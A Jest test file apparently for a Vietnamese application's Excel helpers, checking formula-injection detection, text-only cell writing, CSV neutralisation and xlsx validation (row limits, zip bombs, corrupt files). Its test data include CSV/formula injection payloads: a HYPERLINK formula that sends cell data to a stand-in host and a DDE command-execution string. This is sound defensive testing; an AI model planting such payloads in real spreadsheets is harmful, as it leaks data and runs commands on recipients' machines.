import ExcelJS from 'exceljs';
import { PassThrough } from 'node:stream';
import { DomainError } from '../../src/common/errors/domain-error';
import { csvSafe, looksLikeFormula, safeSheetName, setTextCell, toCellText } from '../../src/common/excel/safe-cell';
import { inspectXlsx } from '../../src/common/excel/xlsx-inspect';
import { openZipEntry, readZipDirectory } from '../../src/common/excel/zip';
import { BAD_FILES, xlsxWithRows } from '../utils/xlsx-fixtures';

async function entryText(buf: Buffer, name: string): Promise<string> {
  const e = readZipDirectory(buf).find((x) => x.name === name);
  if (!e) throw new Error(`${name} missing`);
  const chunks: Buffer[] = [];
  for await (const c of openZipEntry(buf, e)) chunks.push(c as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '＝1+1', // full-width equals sign
];

describe('formula-safe Excel cells', () => {
  it.each(INJECTIONS)('%j is recognised as a formula trigger', (s) => expect(looksLikeFormula(s)).toBe(true));
  it.each(['Nguyễn Văn A', '1980', 'a=b', ''])('%j is ordinary text', (s) => expect(looksLikeFormula(s)).toBe(false));

  it('writes formula-looking names as text cells with the Text format, never as formulas (in-memory writer)', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Danh sách');
    INJECTIONS.forEach((s, i) => setTextCell(ws.getCell(i + 1, 1), s));
    setTextCell(ws.getCell(20, 1), 'Nguye\u0302\u0303n Va\u0306n A'); // NFD
    setTextCell(ws.getCell(21, 1), 'bad\u0000\u0007char\uD800s');
    setTextCell(ws.getCell(22, 1), '001234567890');
    const buf = Buffer.from(await wb.xlsx.writeBuffer());
    const sheet = await entryText(buf, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[\s>]/); // no formula element at all
    const styles = await entryText(buf, 'xl/styles.xml');
    expect(styles).toMatch(/numFmtId="49"/); // 49 = the built-in Text format "@"

    // read back: every value is the exact string, not a formula
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(buf as unknown as ArrayBuffer);
    const s2 = back.getWorksheet('Danh sách')!;
    INJECTIONS.forEach((s, i) => {
      const cell = s2.getCell(i + 1, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(s.normalize('NFC'));
      expect(cell.numFmt).toBe('@');
    });
    expect(s2.getCell(20, 1).value).toBe('Nguyễn Văn A'); // stored NFC
    expect(s2.getCell(21, 1).value).toBe('badchars'); // XML-invalid characters removed: the file stays readable
    expect(s2.getCell(22, 1).value).toBe('001234567890'); // leading zeros kept
  });

  it('does the same through the streaming writer (useStyles: true)', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c) => chunks.push(c));
    const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: out, useStyles: true, useSharedStrings: false });
    const ws = wb.addWorksheet('Hộ');
    for (const [i, s] of INJECTIONS.entries()) {
      const row = ws.getRow(i + 1);
      setTextCell(row.getCell(1), s);
      row.commit();
    }
    await wb.commit();
    const buf = Buffer.concat(chunks);
    const sheet = await entryText(buf, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).toContain('=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1,&quot;Bấm vào đây&quot;)');
  });

  it('cuts text to what a cell holds and cleans sheet names', () => {
    expect(toCellText('x'.repeat(40_000))).toHaveLength(32_767);
    expect(toCellText(null)).toBe('');
    expect(safeSheetName('Báo cáo: [Chiêm Hóa] 2022/2023 * tổng hợp các xã')).toBe('Báo cáo Chiêm Hóa 2022 2023 tổn');
    expect(safeSheetName("'''")).toBe('Sheet');
    expect(safeSheetName('x'.repeat(40)).length).toBe(31);
  });

  it('neutralises formulas in CSV fields', () => {
    expect(csvSafe('=1+1')).toBe(`"'=1+1"`);
    expect(csvSafe('Nguyễn "Tư"')).toBe('"Nguyễn ""Tư"""');
  });
});

describe('xlsx inspection (magic bytes, structure, streaming row count)', () => {
  const code = async (buf: Buffer, maxRows = 1000) => {
    try {
      await inspectXlsx(buf, { maxRows });
      return 'ok';
    } catch (err) {
      if (err instanceof DomainError) return err.code;
      throw err;
    }
  };

  it('counts the rows of a workbook written by exceljs (shared strings, styles, several sheets)', async () => {
    const wb = new ExcelJS.Workbook();
    const a = wb.addWorksheet('A');
    for (let i = 0; i < 120; i++) a.addRow([i, `Hộ ${i}`, new Date(2024, 0, 1)]);
    const b = wb.addWorksheet('B');
    for (let i = 0; i < 30; i++) b.addRow(['x']);
    const buf = Buffer.from(await wb.xlsx.writeBuffer());
    const r = await inspectXlsx(buf, { maxRows: 1000 });
    expect(r.sheets.map((s) => s.rows)).toEqual([120, 30]);
    expect(r.totalRows).toBe(150);
  });

  it('counts the hand-built fixture like exceljs reads it', async () => {
    const buf = xlsxWithRows(25);
    expect((await inspectXlsx(buf, { maxRows: 100 })).totalRows).toBe(25);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    expect(wb.worksheets[0].rowCount).toBe(25);
    expect(wb.worksheets[0].getCell('B25').value).toBe('Hộ 25');
  });

  it('refuses a 1,000,000-row workbook with a clear message, stopping just past the limit', async () => {
    const buf = xlsxWithRows(1_000_000, { lean: true });
    const before = process.memoryUsage().rss;
    const err = await inspectXlsx(buf, { maxRows: 200_000 }).catch((e) => e);
    expect(err).toBeInstanceOf(DomainError);
    expect(err.code).toBe('IMPORT_TOO_LARGE');
    expect(err.message).toMatch(/hơn 200\.000 dòng/);
    expect(err.details[0]).toMatchObject({ field: 'file', limit: 200_000 });
    // streamed: reading 200k rows of XML does not hold the 40+ MB sheet in memory
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024);
  });

  it('refuses a workbook that unpacks to more than the byte limit (zip bomb)', async () => {
    const err = await inspectXlsx(xlsxWithRows(20_000), { maxRows: 1_000_000, maxUncompressedBytes: 100_000 }).catch((e) => e);
    expect(err.code).toBe('IMPORT_TOO_LARGE');
  });

  it.each([
    ['a CSV renamed to .xlsx', BAD_FILES.renamedCsv(), 'BAD_FILE'],
    ['an Excel 97–2003 file / a password-protected workbook', BAD_FILES.oleXls(), 'UNSUPPORTED_MEDIA_TYPE'],
    ['a zip that is not a workbook', BAD_FILES.docxZip(), 'BAD_FILE'],
    ['a truncated workbook', BAD_FILES.truncated(), 'BAD_FILE'],
    ['a workbook with corrupt compressed data', BAD_FILES.corruptDeflate(), 'BAD_FILE'],
    ['an empty file', BAD_FILES.empty(), 'BAD_FILE'],
  ])('refuses %s', async (_what, buf, expected) => {
    expect(await code(buf)).toBe(expected);
  });
});
